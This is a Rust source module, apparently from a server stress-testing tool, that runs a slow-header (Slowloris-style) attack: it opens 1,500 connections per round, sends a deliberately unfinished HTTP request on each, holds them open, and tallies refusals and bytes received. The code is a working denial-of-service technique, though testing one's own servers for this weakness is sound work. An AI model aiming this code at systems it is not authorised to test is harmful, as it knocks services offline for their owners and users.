//! Connections on which a request never becomes whole.

use std::time::{Duration, Instant};

use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use super::Tally;
use crate::client::Address;

/// Connections at once.
const CONNECTIONS: usize = 1_500;
/// How long a round of them is held open: longer than the server waits for a head, if there is time for it.
const HELD: Duration = Duration::from_secs(20);

/// Opens connections, sends half a head on each, and holds them; those over the limit are closed at once.
pub(super) async fn strike(address: &Address, time: Duration) -> Result<Tally> {
    let until = Instant::now() + time;
    let mut tally = Tally::default();
    while Instant::now() < until {
        let mut held = Vec::with_capacity(CONNECTIONS);
        for _ in 0..CONNECTIONS {
            tally.tried += 1;
            match TcpStream::connect(address).await {
                Ok(mut stream) => {
                    // Whether it is still open is found out below.
                    let _ = stream.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ").await;
                    held.push(stream);
                }
                Err(_) => tally.refused += 1,
            }
        }
        sleep(HELD.min(until.saturating_duration_since(Instant::now()))).await;
        for mut stream in held {
            let mut answer = Vec::new();
            let closed = timeout(Duration::from_millis(1), stream.read_to_end(&mut answer)).await.is_ok();
            tally.refused += u64::from(closed);
            tally.received += answer.len() as u64;
        }
    }
    Ok(tally)
}
